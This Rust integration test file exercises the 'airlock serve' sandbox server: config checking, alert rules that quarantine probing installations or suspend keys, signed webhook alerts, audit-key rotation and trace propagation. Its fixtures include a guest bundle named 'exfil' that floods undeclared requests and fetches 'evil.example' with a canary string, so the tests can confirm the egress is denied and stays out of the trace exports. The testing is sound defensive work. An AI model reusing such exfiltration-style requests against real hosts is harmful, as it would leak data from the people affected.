//! Operating `airlock serve`: one config file, JSON logs (docs/deploy.md); alert rules,
//! quarantine and signed notifications (docs/operate.md).

use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, Instant};

use base64::Engine as _;
use hmac::{Hmac, Mac as _};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use sha2::Sha256;

use crate::operator::Operator;
use crate::serving::{Body, Server, assert_trail_verifies, records_of};
use crate::support::{dev_switches, stderr, stdout};
use airlock_testkit::{Reply, TestCa, Upstream};

#[tokio::test]
async fn serve_takes_its_settings_from_one_file_and_the_flags_win() {
    let op = Operator::new();
    let file = op.keys.path().join("airlock.serve.toml");
    std::fs::write(
        &file,
        "# settings the command line does not give\n\
         listen = \"127.0.0.1:1\"\n\
         no-console = true\n\
         max-body = \"1KiB\"\n\
         log-format = \"json\"\n\
         trusted-proxy = [\"10.1.0.0/16\", \"10.2.0.0/16\"]\n",
    )
    .expect("config written");
    let config = file.display().to_string();
    // `--listen 127.0.0.1:0` on the command line wins over the file's port 1.
    let server = Server::start(&op, &[], &["--config", &config]);

    let console = server.call(Method::GET, "/console", None, Body::None).await;
    assert_eq!(console.status, StatusCode::NOT_FOUND, "no-console = true");
    let large = server
        .call(
            Method::POST,
            "/v1/tenants",
            Some(&server.admin),
            Body::Raw(vec![b' '; 2048]),
        )
        .await;
    assert_eq!(
        large.status,
        StatusCode::PAYLOAD_TOO_LARGE,
        "{}",
        large.body
    );
    let small = server
        .post("/v1/tenants", &server.admin, json!({"id": "initech"}))
        .await;
    assert_eq!(small.status, StatusCode::CREATED, "{}", small.body);

    let log = server.log();
    let lines: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    let said = |text: &str| {
        lines.iter().any(|l| {
            l["fields"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(text))
        })
    };
    assert!(said("store checked"), "{log}");
    assert!(
        said("10.1.0.0/16,10.2.0.0/16"),
        "both proxies from the file: {log}"
    );
    assert!(
        lines
            .iter()
            .all(|l| l["level"].is_string() && l["timestamp"].is_string())
    );
    server.stop();
}

#[test]
fn a_config_file_is_checked_whole_and_its_errors_name_file_line_and_key() {
    let op = Operator::new();
    let check = |name: &str, text: &str| {
        let file = op.keys.path().join(name);
        std::fs::write(&file, text).expect("config written");
        let path = file.display().to_string();
        let out = op.airlock(&["serve", "--config", &path, "--check-config"]);
        (out.status.code(), stderr(&out), path)
    };

    let (code, said, _) = check(
        "good.toml",
        "listen = \"127.0.0.1:8443\"\nmax-concurrent = 16\nheartbeat = \"2s\"\n",
    );
    assert_eq!(code, Some(0), "{said}");

    let (code, said, path_typo) = check("typo.toml", "# ops\n\nmax-concurent = 16\n");
    assert_eq!(code, Some(2));
    assert!(
        said.contains(&format!("{path_typo}:3: max-concurent: not a setting")),
        "{said}"
    );
    assert!(said.contains("did you mean `max-concurrent`"), "{said}");

    let (code, said, path_value) = check("value.toml", "workers = 2\nmax-body = \"lots\"\n");
    assert_eq!(code, Some(2));
    assert!(
        said.contains(&format!("{path_value}:2: max-body:")),
        "{said}"
    );
    assert!(said.contains("lots"), "{said}");

    let (code, said, _) = check("shape.toml", "no-console = \"yes\"\n");
    assert_eq!(code, Some(2));
    assert!(
        said.contains("no-console: a string, where true or false is expected"),
        "{said}"
    );

    let (code, said, _) = check("itself.toml", "config = \"other.toml\"\n");
    assert_eq!(code, Some(2));
    assert!(said.contains("config: not a setting"), "{said}");

    let (code, said, _) = check("broken.toml", "listen = [\n");
    assert_eq!(code, Some(2));
    assert!(
        said.contains("not TOML") && said.contains("line 1"),
        "{said}"
    );

    // Alert rules are checked too, each error at its line and table.
    let rule = "[[alert]]\nname = \"probe\"\nsignal = \"egress-denied\"\nper = \"tenant\"\n\
                threshold = 3\nwindow = \"1m\"\n";
    let (code, said, path_rule) = check("rule.toml", &format!("{rule}severe = 1\n"));
    assert_eq!(code, Some(2));
    assert!(
        said.contains(&format!("{path_rule}:7: [[alert]]: unknown field `severe`")),
        "{said}"
    );
    let (code, said, _) = check("per.toml", &format!("{rule}quarantine = true\n"));
    assert_eq!(code, Some(2));
    assert!(said.contains("rule probe: quarantine needs"), "{said}");

    // A dev switch in the file is still refused unless confirmed, as on the command line.
    let (code, said, _) = check("loose.toml", "allow-private = [\"127.0.0.0/8\"]\n");
    assert_eq!(code, Some(2));
    assert!(said.contains("--dev-insecure"), "{said}");

    // The command line wins: the file's non-loopback address is not used.
    let file = op.keys.path().join("wide.toml");
    std::fs::write(&file, "listen = \"0.0.0.0:8080\"\n").expect("config written");
    let wide = file.display().to_string();
    let out = op.airlock(&["serve", "--config", &wide, "--check-config"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let out = op.airlock(&[
        "serve",
        "--config",
        &wide,
        "--listen",
        "127.0.0.1:8080",
        "--check-config",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // So does the environment: every flag of serve has its AIRLOCK_ variable.
    let out = op
        .command(op.data(), &["serve", "--config", &wide, "--check-config"])
        .env("AIRLOCK_LISTEN", "127.0.0.1:8080")
        .output()
        .expect("airlock runs");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = op
        .command(op.data(), &["serve", "--check-config"])
        .env("AIRLOCK_MAX_BODY", "lots")
        .output()
        .expect("airlock runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("--max-body"), "{}", stderr(&out));
}

/// The operator's alert endpoint: a TLS stand-in on loopback, answering 204.
fn alert_endpoint(dir: &std::path::Path) -> (Upstream, String, String) {
    let ca = TestCa::new().expect("test CA");
    let ip = "127.0.0.3".parse().expect("ip");
    let endpoint = Upstream::start(&ca, &["alerts.ops.test"], ip, |_| Reply::status(204))
        .expect("endpoint starts");
    let pem = ca.write_pem(dir).expect("CA written").display().to_string();
    let pin = format!("alerts.ops.test={}", endpoint.addr());
    (endpoint, pem, pin)
}

#[tokio::test]
async fn an_installation_that_probes_is_quarantined_and_the_operator_told_once() {
    let op = Operator::new();
    let (endpoint, pem, pin) = alert_endpoint(op.keys.path());
    let mut random = [0u8; 32];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut urandom| std::io::Read::read_exact(&mut urandom, &mut random))
        .expect("random bytes");
    let secret = format!(
        "whsec_{}",
        base64::engine::general_purpose::STANDARD.encode(random)
    );
    let secret_file = op.keys.path().join("notify.secret");
    std::fs::write(&secret_file, &secret).expect("secret written");
    std::fs::set_permissions(&secret_file, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    // The default rules (no [[alert]] table), and one endpoint on a private address it allows.
    let config = op.keys.path().join("airlock.serve.toml");
    std::fs::write(
        &config,
        "[[notify]]\n\
         url = \"https://alerts.ops.test/hooks/airlock\"\n\
         secret-file = \"notify.secret\"\n\
         allow-private = [\"127.0.0.3/32\"]\n",
    )
    .expect("config written");
    let config = config.display().to_string();
    let server = Server::start(
        &op,
        &["--resolve", &pin, "--extra-root-ca", &pem],
        &["--dev-insecure", "--config", &config],
    );
    assert!(
        server.log().contains("alert rules: egress-probing"),
        "{}",
        server.log()
    );
    let digest = server.upload(&op.exfil("0.1.0", "")).await;
    let key = server
        .tenant(
            "acme",
            &["invoke", "installations:read", "installations:write"],
        )
        .await;
    let installed = server
        .post("/v1/installations", &key, json!({"bundle": digest}))
        .await;
    assert_eq!(installed.status, StatusCode::CREATED, "{}", installed.body);
    let flood = "/v1/installations/exfil/actions/flood-denied";

    // Ten undeclared requests: under the default threshold (20 a minute), nothing happens.
    let quiet = server.post(flood, &key, json!({"count": 10})).await;
    assert_eq!(quiet.status, StatusCode::OK, "{}", quiet.body);
    // Fifteen more within the minute trip the rule.
    let tripping = server.post(flood, &key, json!({"count": 15})).await;
    assert_eq!(tripping.status, StatusCode::OK, "{}", tripping.body);

    let until = Instant::now() + Duration::from_secs(20);
    while endpoint.requests().is_empty() && Instant::now() < until {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let sent = endpoint.requests();
    assert_eq!(sent.len(), 1, "one notification");
    let note = &sent[0];
    assert_eq!(note.method, "POST");
    assert_eq!(note.path_and_query, "/hooks/airlock");
    let (id, timestamp) = (
        note.header("webhook-id")[0],
        note.header("webhook-timestamp")[0],
    );
    let mut mac = Hmac::<Sha256>::new_from_slice(
        &base64::engine::general_purpose::STANDARD
            .decode(&secret["whsec_".len()..])
            .expect("base64"),
    )
    .expect("key");
    mac.update(format!("{id}.{timestamp}.").as_bytes());
    mac.update(&note.body);
    let expected = format!(
        "v1,{}",
        base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes())
    );
    assert_eq!(note.header("webhook-signature"), [expected.as_str()]);
    let payload: Value = serde_json::from_slice(&note.body).expect("JSON");
    assert_eq!(payload["type"], "airlock.alert");
    assert_eq!(payload["data"]["rule"], "egress-probing");
    assert_eq!(payload["data"]["tenant"], "acme");
    assert_eq!(payload["data"]["installation"], "exfil");
    assert_eq!(payload["data"]["count"], 25);
    assert_eq!(payload["data"]["quarantined"], true);
    assert!(payload["data"]["record"].is_u64(), "{payload}");

    // Quarantined: the next invocation is refused, whatever it asks, and says why.
    let refused = server
        .post(
            "/v1/installations/exfil/actions/undeclared-host",
            &key,
            json!({}),
        )
        .await;
    assert_eq!(refused.status, StatusCode::LOCKED, "{}", refused.body);
    assert_eq!(refused.body["error"]["code"], "quarantined");
    let shown = server.get("/v1/installations/exfil", &key).await;
    assert_eq!(
        shown.body["quarantine"]["rule"], "egress-probing",
        "{}",
        shown.body
    );

    // Nor can it change or uninstall it (a change would write over the quarantine, a
    // reinstall would come back without one).
    let patched = server
        .call(
            Method::PATCH,
            "/v1/installations/exfil",
            Some(&key),
            Body::Json(json!({"grant": {"egress": [
                {"url": "https://api.allowed.test", "methods": ["GET"]}
            ]}})),
        )
        .await;
    assert_eq!(patched.status, StatusCode::LOCKED, "{}", patched.body);
    let uninstalled = server
        .call(
            Method::DELETE,
            "/v1/installations/exfil",
            Some(&key),
            Body::None,
        )
        .await;
    assert_eq!(
        uninstalled.status,
        StatusCode::LOCKED,
        "{}",
        uninstalled.body
    );

    // The tenant cannot lift it; the operator can, and it runs again.
    let release = "/v1/installations/exfil/quarantine?tenant=acme";
    let by_tenant = server
        .call(
            Method::DELETE,
            "/v1/installations/exfil/quarantine",
            Some(&key),
            Body::None,
        )
        .await;
    assert_eq!(
        by_tenant.status,
        StatusCode::FORBIDDEN,
        "{}",
        by_tenant.body
    );
    let released = server
        .call(Method::DELETE, release, Some(&server.admin), Body::None)
        .await;
    assert_eq!(released.status, StatusCode::OK, "{}", released.body);
    assert!(released.body["quarantine"].is_null(), "{}", released.body);
    let again = server
        .post(
            "/v1/installations/exfil/actions/undeclared-host",
            &key,
            json!({}),
        )
        .await;
    assert_eq!(again.status, StatusCode::OK, "{}", again.body);
    // The flood was one alert: no second notification came meanwhile.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(endpoint.requests().len(), 1);

    // The operator quarantines by hand, and may remove a quarantined installation outright.
    let by_hand = server
        .call(Method::PUT, release, Some(&server.admin), Body::None)
        .await;
    assert_eq!(
        by_hand.body["quarantine"]["rule"], "operator",
        "{}",
        by_hand.body
    );
    let listed = stdout(&op.ok(&["install", "list"]));
    assert!(
        listed.contains("acme/exfil") && listed.contains("QUARANTINED by operator since"),
        "{listed}"
    );
    let removed = server
        .call(
            Method::DELETE,
            "/v1/installations/exfil?tenant=acme",
            Some(&server.admin),
            Body::None,
        )
        .await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.body);
    server.stop();

    let alerts = records_of(&op, "alert-raised");
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0]["security"], true);
    assert_eq!(alerts[0]["quarantine"], true);
    let changes: Vec<Value> = records_of(&op, "installation-changed")
        .into_iter()
        .map(|r| r["change"].clone())
        .collect();
    assert_eq!(
        changes,
        [
            json!("installed"),
            json!("quarantined"),
            json!("released"),
            json!("quarantined"),
            json!("uninstalled")
        ]
    );
    assert_trail_verifies(&op);
}

#[test]
fn the_example_config_in_docs_checks() {
    let op = Operator::new();
    let example = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../docs/deploy/airlock.serve.toml"
    );
    // The data dir and audit dir are the operator's (the environment wins over the file).
    let out = op.airlock(&["serve", "--config", example, "--check-config"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn the_audit_key_rotates_and_verify_follows_it_from_the_pinned_key() {
    let (data, audit) = (
        tempfile::TempDir::new().expect("dir"),
        tempfile::TempDir::new().expect("dir"),
    );
    let op = Operator::on_disks(data.path(), audit.path());
    let anchor = std::fs::read_to_string(audit.path().join("audit.pub")).expect("audit.pub");
    let new = stdout(&op.ok(&["audit", "rotate-key"])).trim().to_string();
    assert_ne!(new, anchor.trim());
    op.ok(&["tenant", "create", "globex"]);
    assert_eq!(
        std::fs::read_to_string(audit.path().join("audit.pub")).expect("audit.pub"),
        anchor,
        "audit.pub keeps the anchor"
    );
    let verified = op.ok(&["audit", "verify"]);
    assert!(
        stdout(&verified).contains("checkpoint"),
        "{}",
        stdout(&verified)
    );
    op.ok(&["audit", "verify", "--key", anchor.trim()]);
    let export = stdout(&op.ok(&["audit", "export"]));
    assert_eq!(
        export
            .lines()
            .filter(|l| l.contains("\"type\":\"audit-key-rotated\""))
            .count(),
        1,
        "{export}"
    );

    // An introduction altered to vouch for another key breaks the chain of keys: exit 7.
    let stranger = op.keys.path().join("stranger.key").display().to_string();
    let stranger = stdout(&op.ok(&["keygen", "--out", &stranger]))
        .trim()
        .to_string();
    let keys = audit.path().join("audit.keys");
    let introduced: Value =
        serde_json::from_str(&std::fs::read_to_string(&keys).expect("audit.keys")).expect("JSON");
    let mut forged = introduced.clone();
    forged["key"] = json!(stranger);
    std::fs::write(&keys, format!("{forged}\n")).expect("tampered");
    let out = op.airlock(&["audit", "verify"]);
    assert_eq!(out.status.code(), Some(7), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("key introduction 1 is not signed"),
        "{}",
        stdout(&out)
    );
}

/// An OTLP/HTTP receiver on loopback: every request body posted to `/v1/traces`, as JSON.
struct Collector {
    addr: std::net::SocketAddr,
    received: std::sync::Arc<std::sync::Mutex<Vec<Value>>>,
}

impl Collector {
    async fn start() -> Self {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bound");
        let addr = listener.local_addr().expect("address");
        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let kept = received.clone();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let kept = kept.clone();
                tokio::spawn(async move {
                    let mut bytes = Vec::new();
                    let mut chunk = [0u8; 65536];
                    // The head, then as much body as its Content-Length says.
                    let (head_end, length) = loop {
                        let n = stream.read(&mut chunk).await.unwrap_or(0);
                        if n == 0 {
                            return;
                        }
                        bytes.extend_from_slice(&chunk[..n]);
                        if let Some(at) = bytes.windows(4).position(|w| w == b"\r\n\r\n") {
                            let head = String::from_utf8_lossy(&bytes[..at]).to_lowercase();
                            assert!(head.starts_with("post /v1/traces "), "{head}");
                            let length = head
                                .lines()
                                .find_map(|l| l.strip_prefix("content-length:"))
                                .and_then(|v| v.trim().parse::<usize>().ok())
                                .expect("a length");
                            break (at + 4, length);
                        }
                    };
                    while bytes.len() < head_end + length {
                        let n = stream.read(&mut chunk).await.unwrap_or(0);
                        if n == 0 {
                            return;
                        }
                        bytes.extend_from_slice(&chunk[..n]);
                    }
                    let body = serde_json::from_slice(&bytes[head_end..head_end + length])
                        .expect("an OTLP JSON export");
                    kept.lock().expect("lock").push(body);
                    let _ = stream
                        .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}")
                        .await;
                });
            }
        });
        Self { addr, received }
    }

    /// Every span exported so far, with its resource's `service.name`.
    fn spans(&self) -> Vec<Value> {
        let mut spans = Vec::new();
        for export in self.received.lock().expect("lock").iter() {
            for resource in export["resourceSpans"].as_array().into_iter().flatten() {
                for scope in resource["scopeSpans"].as_array().into_iter().flatten() {
                    spans.extend(scope["spans"].as_array().into_iter().flatten().cloned());
                }
            }
        }
        spans
    }
}

/// A span's attribute, as its OTLP JSON value.
fn attribute<'a>(span: &'a Value, key: &str) -> &'a Value {
    span["attributes"]
        .as_array()
        .and_then(|a| a.iter().find(|kv| kv["key"] == key))
        .map_or(&Value::Null, |kv| &kv["value"])
}

#[tokio::test]
async fn traces_follow_the_callers_trace_into_the_invocation_and_its_egress() {
    const CANARY: &str = "canary-7f1e-trace";
    let op = Operator::new();
    let collector = Collector::start().await;
    let endpoint = format!("http://{}", collector.addr);
    let server = Server::start(&op, &[], &["--otlp-endpoint", &endpoint]);
    let digest = server.upload(&op.exfil("0.1.0", "")).await;
    let key = server
        .tenant(
            "acme",
            &["invoke", "installations:read", "installations:write"],
        )
        .await;
    let installed = server
        .post("/v1/installations", &key, json!({"bundle": digest}))
        .await;
    assert_eq!(installed.status, StatusCode::CREATED, "{}", installed.body);

    let trace = "4bf92f3577b34da6a3ce929d0e0e4736";
    let caller = "00f067aa0ba902b7";
    let reply = server
        .http
        .post(format!(
            "{}/v1/installations/exfil/actions/fetch",
            server.base
        ))
        .bearer_auth(&key)
        .header("traceparent", format!("00-{trace}-{caller}-01"))
        .header("content-type", "application/json")
        .body(json!({"url": format!("https://evil.example/{CANARY}?q={CANARY}")}).to_string())
        .send()
        .await
        .expect("answered");
    assert_eq!(reply.status(), StatusCode::OK);

    let until = Instant::now() + Duration::from_secs(20);
    let spans = loop {
        let spans = collector.spans();
        if spans.iter().any(|s| s["name"] == "egress") || Instant::now() > until {
            break spans;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let named = |name: &str| {
        spans
            .iter()
            .find(|s| s["name"] == name && s["traceId"] == trace)
            .unwrap_or_else(|| panic!("no {name} span of the caller's trace in {spans:#?}"))
    };
    let request = named("api.request");
    assert_eq!(request["parentSpanId"], caller);
    // SERVER, though the caller's span is its parent.
    assert_eq!(request["kind"], 2);
    assert_eq!(
        attribute(request, "http.route")["stringValue"],
        "/v1/installations/{installation}/actions/{action}"
    );
    assert_eq!(
        attribute(request, "http.response.status_code")["intValue"],
        "200"
    );
    let invocation = named("invocation");
    assert_eq!(invocation["parentSpanId"], request["spanId"]);
    assert_eq!(
        attribute(invocation, "airlock.tenant")["stringValue"],
        "acme"
    );
    assert_eq!(
        attribute(invocation, "airlock.action")["stringValue"],
        "fetch"
    );
    assert_eq!(
        attribute(invocation, "airlock.outcome")["stringValue"],
        "ok"
    );
    let run = named("guest.run");
    assert_eq!(run["parentSpanId"], invocation["spanId"]);
    let egress = named("egress");
    assert_eq!(egress["parentSpanId"], run["spanId"]);
    assert_eq!(
        (run["kind"].clone(), egress["kind"].clone()),
        (json!(1), json!(3))
    );
    assert_eq!(
        attribute(egress, "airlock.egress.decision")["stringValue"],
        "denied"
    );
    assert_eq!(
        attribute(egress, "http.request.method")["stringValue"],
        "GET"
    );
    named("instantiate");
    named("audit.append");
    // Metadata only: the URL the guest asked for, path and query, is in no export.
    let exported = serde_json::to_string(&*collector.received.lock().expect("lock")).expect("JSON");
    assert!(!exported.contains(CANARY), "{exported}");
    server.stop();
}

#[tokio::test]
async fn a_key_probing_scopes_it_lacks_is_suspended_and_a_guessed_one_never_is() {
    let op = Operator::new();
    let config = op.keys.path().join("airlock.serve.toml");
    std::fs::write(
        &config,
        "[[alert]]\n\
         name = \"scope-probing\"\n\
         signal = \"access-refused\"\n\
         per = \"key\"\n\
         threshold = 3\n\
         window = \"1m\"\n\
         quarantine = true\n",
    )
    .expect("config written");
    let config = config.display().to_string();
    let server = Server::start(&op, &[], &["--config", &config]);
    let key = server.tenant("acme", &["invoke"]).await;
    let id = key
        .strip_prefix("airlock_")
        .and_then(|rest| rest.split('_').next())
        .expect("a key id")
        .to_string();

    // Someone without the key guesses at it many times: limited, never suspending it.
    let guessed = format!("airlock_{id}_{}", "A".repeat(43));
    for _ in 0..6 {
        let refused = server.get("/v1/installations", &guessed).await;
        assert!(
            refused.status == StatusCode::UNAUTHORIZED
                || refused.status == StatusCode::TOO_MANY_REQUESTS
        );
    }
    let listed = server.get("/v1/api-keys?tenant=acme", &server.admin).await;
    let record = |listed: &Value| {
        listed["keys"]
            .as_array()
            .and_then(|keys| keys.iter().find(|k| k["id"] == id.as_str()))
            .cloned()
            .expect("the key is listed")
    };
    assert!(
        record(&listed.body)["suspended"].is_null(),
        "{}",
        listed.body
    );

    // The key itself reaching for a scope it lacks, four times: suspended.
    for _ in 0..4 {
        let refused = server.get("/v1/installations", &key).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.body);
    }
    let until = Instant::now() + Duration::from_secs(20);
    let suspended = loop {
        let listed = server.get("/v1/api-keys?tenant=acme", &server.admin).await;
        let key = record(&listed.body);
        if !key["suspended"].is_null() || Instant::now() > until {
            break key;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    assert_eq!(
        suspended["suspended"]["rule"], "scope-probing",
        "{suspended}"
    );
    let invoke = "/v1/installations/nothing/actions/x";
    let refused = server.post(invoke, &key, json!({})).await;
    assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{}", refused.body);
    assert!(
        refused.body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("suspended")),
        "{}",
        refused.body
    );

    // The operator lifts it: it works again (the installation is simply not there).
    let lifted = server
        .call(
            Method::DELETE,
            &format!("/v1/api-keys/{id}/suspension"),
            Some(&server.admin),
            Body::None,
        )
        .await;
    assert_eq!(lifted.status, StatusCode::OK, "{}", lifted.body);
    let again = server.post(invoke, &key, json!({})).await;
    assert_eq!(again.status, StatusCode::NOT_FOUND, "{}", again.body);
    server.stop();
    let changes: Vec<Value> = records_of(&op, "api-key-changed")
        .into_iter()
        .filter(|r| r["key"] == id.as_str())
        .map(|r| r["change"].clone())
        .collect();
    assert_eq!(
        changes,
        [json!("set"), json!("suspended"), json!("resumed")]
    );
}

#[tokio::test]
async fn only_a_rule_that_says_trace_sends_the_trace_context_upstream() {
    let op = Operator::new();
    let collector = Collector::start().await;
    let endpoint = format!("http://{}", collector.addr);
    let ca = TestCa::new().expect("test CA");
    let names = ["traced.allowed.test", "api.allowed.test"];
    let upstream = Upstream::start(&ca, &names, "127.0.0.2".parse().expect("ip"), |_| {
        Reply::status(204)
    })
    .expect("upstream starts");
    let pem = ca.write_pem(op.keys.path()).expect("CA");
    let pins: Vec<String> = names
        .iter()
        .map(|name| format!("{name}={}", upstream.addr()))
        .collect();
    let switches = dev_switches(&pins, &pem);
    let switches: Vec<&str> = switches.iter().map(String::as_str).collect();
    let server = Server::start(
        &op,
        &switches,
        &["--dev-insecure", "--otlp-endpoint", &endpoint],
    );
    let traced =
        "[[egress]]\nurl = \"https://traced.allowed.test\"\nmethods = [\"GET\"]\ntrace = true\n";
    let digest = server.upload(&op.exfil("0.2.0", traced)).await;
    let key = server
        .tenant(
            "acme",
            &["invoke", "installations:read", "installations:write"],
        )
        .await;
    let grant = json!({"egress": [
        {"url": "https://traced.allowed.test", "methods": ["GET"]},
        {"url": "https://api.allowed.test", "methods": ["GET"]},
    ]});
    let installed = server
        .post(
            "/v1/installations",
            &key,
            json!({"bundle": digest, "grant": grant}),
        )
        .await;
    assert_eq!(installed.status, StatusCode::CREATED, "{}", installed.body);

    let trace = "0af7651916cd43dd8448eb211c80319c";
    let fetch = |url: &'static str| {
        server
            .http
            .post(format!(
                "{}/v1/installations/exfil/actions/fetch",
                server.base
            ))
            .bearer_auth(&key)
            .header("traceparent", format!("00-{trace}-b7ad6b7169203331-01"))
            .header("content-type", "application/json")
            .body(json!({ "url": url }).to_string())
            .send()
    };
    for url in [
        "https://traced.allowed.test/a",
        "https://api.allowed.test/b",
    ] {
        let reply = fetch(url).await.expect("answered");
        assert_eq!(reply.status(), StatusCode::OK);
    }
    let seen = upstream.requests();
    assert_eq!(seen.len(), 2);
    let sent = seen[0].header("traceparent");
    assert_eq!(sent.len(), 1, "the traced rule's request carries one");
    let (version, rest) = sent[0].split_at(3);
    assert_eq!(version, "00-");
    assert!(rest.starts_with(&format!("{trace}-")), "{}", sent[0]);
    assert!(
        seen[1].header("traceparent").is_empty(),
        "the other rule's does not"
    );

    // It names the egress span the trace exported.
    let parent = &rest[trace.len() + 1..trace.len() + 17];
    let until = Instant::now() + Duration::from_secs(20);
    loop {
        let spans = collector.spans();
        if spans
            .iter()
            .any(|s| s["name"] == "egress" && s["spanId"] == parent && s["traceId"] == trace)
        {
            break;
        }
        assert!(
            Instant::now() < until,
            "no egress span {parent} in {spans:#?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    server.stop();
}
